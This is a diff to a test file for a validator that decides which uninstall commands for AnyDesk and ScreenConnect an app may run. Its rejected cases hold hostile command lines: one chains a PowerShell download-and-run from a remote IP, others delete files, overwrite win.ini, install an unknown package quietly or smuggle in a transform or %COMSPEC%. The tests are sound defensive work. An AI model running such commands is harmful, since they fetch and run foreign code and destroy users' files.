@@ -13,22 +13,27 @@ import { RegistryError, type RegistryApi, type RegistryKey } from '../../../../e
 const catalog = loadCatalog();
 const anydesk = catalog.byId('anydesk')!;
 const screenconnect = catalog.byId('screenconnect')!;
-const env = { ProgramFiles: 'C:\\Program Files', 'ProgramFiles(x86)': 'C:\\Program Files (x86)' };
+const env = { ProgramFiles: 'C:\\Program Files', 'ProgramFiles(x86)': 'C:\\Program Files (x86)', SystemRoot: 'C:\\Windows' };
 const UNINSTALL = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall';
 
 describe('which uninstall commands the app may run', () => {
   it.each([
-    ['AnyDesk\'s own, in its folder', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall', 'C:\\Program Files (x86)\\AnyDesk', anydesk, true],
-    ['Windows Installer with a product code', 'MsiExec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B}', null, anydesk, true],
-    ['an Inno Setup uninstaller in a ScreenConnect client folder', '"C:\\Program Files (x86)\\ScreenConnect Client (1a2b3c4d)\\unins000.exe"', null, screenconnect, true],
-    ['Windows Installer installing a package', 'msiexec /i C:\\Users\\Public\\fix.msi /qn', null, anydesk, false],
-    ['a shell command', 'cmd.exe /c del /q "C:\\Program Files\\Pause Guard\\*"', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
-    ['the right name in the wrong folder', '"C:\\Users\\Public\\AnyDesk.exe" --uninstall', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
-    ['AnyDesk\'s own with a second command chained after it', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall & powershell -c "iwr http://198.51.100.9/x | iex"', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
-    ['AnyDesk\'s own with its output sent over a file', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall > C:\\Windows\\win.ini', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
-    ['a script in the install folder', '"C:\\Program Files (x86)\\AnyDesk\\fix.bat"', 'C:\\Program Files (x86)\\AnyDesk', anydesk, false],
-  ])('%s', (_name, command, installLocation, tool, expected) => {
-    expect(uninstallerLooksRight(command, installLocation, tool, env)).toBe(expected);
+    ['AnyDesk\'s own, in its folder', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall', anydesk, true],
+    ['Windows Installer with a product code', 'MsiExec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B}', anydesk, true],
+    ['Windows Installer from System32, quietly', 'C:\\Windows\\System32\\msiexec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B} /qn', anydesk, true],
+    ['an Inno Setup uninstaller in a ScreenConnect client folder', '"C:\\Program Files (x86)\\ScreenConnect Client (1a2b3c4d)\\unins000.exe"', screenconnect, true],
+    ['Windows Installer installing a package', 'msiexec /i C:\\Users\\Public\\fix.msi /qn', anydesk, false],
+    ['a program of the caller\'s named msiexec', '"C:\\Users\\Public\\msiexec.exe" /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B}', anydesk, false],
+    ['Windows Installer with more than a product code', 'MsiExec.exe /X{5D3B6AB4-9A1C-4D5E-8F2B-1C3D5E7F9A0B} TRANSFORMS=C:\\Users\\Public\\x.mst', anydesk, false],
+    ['a shell command', 'cmd.exe /c del /q "C:\\Program Files\\Pause Guard\\*"', anydesk, false],
+    ['the right name in the wrong folder', '"C:\\Users\\Public\\AnyDesk.exe" --uninstall', anydesk, false],
+    ['the right name in a folder of the person\'s own, however the entry names it', '"C:\\Users\\Mum\\AppData\\Roaming\\AnyDesk\\AnyDesk.exe" --uninstall', anydesk, false],
+    ['AnyDesk\'s own with a second command chained after it', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall & powershell -c "iwr http://198.51.100.9/x | iex"', anydesk, false],
+    ['AnyDesk\'s own with its output sent over a file', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --uninstall > C:\\Windows\\win.ini', anydesk, false],
+    ['AnyDesk\'s own with a variable the command processor would expand', '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" %COMSPEC%', anydesk, false],
+    ['a script in the install folder', '"C:\\Program Files (x86)\\AnyDesk\\fix.bat"', anydesk, false],
+  ])('%s', (_name, command, tool, expected) => {
+    expect(uninstallerLooksRight(command, tool, env)).toBe(expected);
   });
 });
 
